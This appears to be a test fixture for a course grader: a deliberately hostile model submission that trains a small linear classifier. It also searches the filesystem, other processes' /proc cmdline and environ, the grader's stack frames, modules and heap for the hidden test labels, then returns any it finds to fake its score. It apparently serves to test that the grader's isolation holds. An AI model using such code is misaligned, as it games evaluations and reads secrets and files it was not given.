# A hostile lenet submission (tests/test_lenet.py): an honest linear model, plus a search for
# the labels of the hidden test split everywhere student code can look: known paths of the
# course, a walk of the filesystem, other processes (/proc), the frames and globals of the
# grader's code that calls the model, every loaded module, and the heap. If it finds them it
# answers with them; the test grades it a second time with SEARCH = False and expects the same.
import gc
import glob
import os
import sys
import time
import warnings

import numpy as np
import torch
from torch import nn

SEARCH = True
HIDDEN_COUNT = __HIDDEN_COUNT__
KNOWN = ["__COURSE__/assignments/lenet/hidden/test.npz", "__COURSE__/assignments/lenet/hidden/secret.toml",
         "__ROOT__/assignments/lenet/hidden/test.npz", "__ROOT__/assignments/lenet/hidden/secret.toml"]
SEARCHED = {"paths": 0, "processes": 0, "frames": 0, "modules": 0, "objects": 0}
FOUND = []


def _label_like(value):
    """``value`` as an int64 array if it could be the hidden labels: HIDDEN_COUNT digits 0..9."""
    try:
        if isinstance(value, torch.Tensor):
            value = value.detach().cpu().numpy()
        if isinstance(value, (list, tuple)) and len(value) == HIDDEN_COUNT:
            value = np.asarray(value)
        if (isinstance(value, np.ndarray) and value.shape == (HIDDEN_COUNT,) and value.dtype.kind in "iu"
                and value.min() >= 0 and value.max() <= 9):
            return value.astype(np.int64)
    except Exception:
        pass
    return None


def _candidate_paths(deadline):
    yield from KNOWN
    for top in ["/", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]:
        for folder, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                return
            dirs[:] = [d for d in dirs if not (folder == top and d in ("proc", "sys", "usr", "dev"))]
            for name in files:
                if name.endswith((".npz", ".npy")) or "secret" in name:
                    yield os.path.join(folder, name)


def _search_files():
    for path in _candidate_paths(time.monotonic() + 2.0):
        SEARCHED["paths"] += 1
        try:
            if "secret" in os.path.basename(path):
                if "seed" in open(path).read():
                    FOUND.append(f"the secret in {path}")
                continue
            with np.load(path) as data:
                for key in data.files:
                    if _label_like(data[key]) is not None:
                        FOUND.append(f"labels in {path}")
                        return _label_like(data[key])
        except Exception:
            continue
    for pid in glob.glob("/proc/[0-9]*"):
        SEARCHED["processes"] += 1
        for name in ("cmdline", "environ"):
            try:
                text = open(os.path.join(pid, name), "rb").read()
            except OSError:
                continue
            if b"test.npz" in text or b"secret" in text or b"hidden" in text:
                FOUND.append(f"{pid}/{name} mentions the hidden split")
    return None


def _search_values(values):
    for value in list(values):
        labels = _label_like(value)
        if labels is not None:
            return labels
    return None


def _search_memory(heap):
    frame = sys._getframe()
    while frame is not None:
        SEARCHED["frames"] += 1
        for namespace in (frame.f_locals, frame.f_globals):
            labels = _search_values(namespace.values())
            if labels is not None:
                FOUND.append(f"labels in frame {frame.f_code.co_name}")
                return labels
        frame = frame.f_back
    for name, module in list(sys.modules.items()):
        SEARCHED["modules"] += 1
        labels = _search_values(getattr(module, "__dict__", {}).values())
        if labels is not None:
            FOUND.append(f"labels in module {name}")
            return labels
    for obj in gc.get_objects() if heap else []:
        SEARCHED["objects"] += 1
        inner = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else [obj]
        labels = _search_values(inner)
        if labels is not None:
            FOUND.append(f"labels in a {type(obj).__name__} on the heap")
            return labels
    return None


STOLEN = []
#: What was searched already in this process: the files once, the heap (slow) once per batch size.
DONE = {"files": False, "heap": set()}


def _search(batch_size):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # old .npz files of site-packages, deprecated torch names
        if not DONE["files"]:
            DONE["files"] = True
            return _search_files()
        heap = batch_size not in DONE["heap"]
        DONE["heap"].add(batch_size)
        return _search_memory(heap)


class Thief(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(64, 10)

    def forward(self, x):
        logits = self.linear(x.flatten(1))
        if SEARCH and not self.training and not STOLEN:
            labels = _search(len(x))
            if labels is not None:
                STOLEN.append(labels)
            print("searched", SEARCHED, "found", FOUND or "nothing", flush=True)
        if STOLEN:
            logits = torch.nn.functional.one_hot(torch.as_tensor(STOLEN[0][:len(x)]), 10).float() * 100
        return logits


def build_model():
    return Thief()


def train_model(model, X_train, y_train):
    optimizer = torch.optim.Adam(model.parameters(), lr=0.05)
    losses = []
    for _ in range(40):
        optimizer.zero_grad()
        loss = nn.functional.cross_entropy(model(X_train), y_train)
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    return losses
